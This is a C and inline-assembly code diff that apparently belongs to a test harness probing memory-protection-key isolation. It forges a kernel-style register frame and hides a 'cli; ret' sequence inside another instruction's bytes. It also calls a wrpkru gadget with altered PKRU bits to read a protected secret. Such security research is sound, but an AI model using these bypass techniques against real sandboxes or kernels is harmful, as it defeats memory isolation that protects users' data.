@@ -23,14 +23,28 @@ void lib_forge(uint64_t wrpkru, uint64_t return_to, const volatile uint64_t *sec
 	regs[18] = 0x202;
 	regs[20] = KERNEL_DS;
 	regs[-1] = return_to;
-	/* RIP, RSP; and registers, of which r12 keeps the address. */
+	/* Interrupts off, by bytes of another instruction. RIP, RSP; and registers, of which r12 keeps the address. */
 	__asm__ volatile("lea 1f(%%rip), %%rax\n\tmov %%rax, 128(%%rdi)\n\tmov %%rsp, 152(%%rdi)\n\t"
 			 "mov %%rbp, 32(%%rdi)\n\tmov %%rcx, 24(%%rdi)\n\t"
-			 "lea -8(%%rdi), %%rsp\n\txor %%eax, %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\t"
+			 "call 3f+2\n\tjmp 4f\n3:\tmov $0xc3fa, %%r8d\n4:\tlea -8(%%rdi), %%rsp\n\txor %%eax, %%eax\n\txor %%ecx, %%ecx\n\txor %%edx, %%edx\n\t"
 			 "xor %%r14d, %%r14d\n\tmov $1, %%ebx\n\tjmp *%%rsi\n"
 			 "1:\tmov %%r12, %%rcx"
 			 : "+D"(regs), "+S"(wrpkru), "+c"(secret)
 			 :
 			 : "rax", "rbx", "rdx", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory", "cc");
 	has_read = *secret == 4711;
+}
+
+long lib_read_half_open(uint64_t wrpkru, int file, char *page)
+{
+	register uint64_t count __asm__("r11") = 4096;
+	unsigned pkru, edx;
+
+	__asm__ volatile("rdpkru" : "=a"(pkru), "=d"(edx) : "c"(0));
+	pkru = (pkru & 0x0fffffff) | 0x30000000;
+	__asm__ volatile("sub $128, %%rsp\n\tcall *%%rbx\n\tadd $128, %%rsp"
+			 : "+a"(pkru), "+r"(count)
+			 : "b"(wrpkru), "c"(0ul), "d"(0ul), "D"(file), "S"(page)
+			 : "r8", "r9", "r10", "memory", "cc");
+	return (int)pkru;
 }
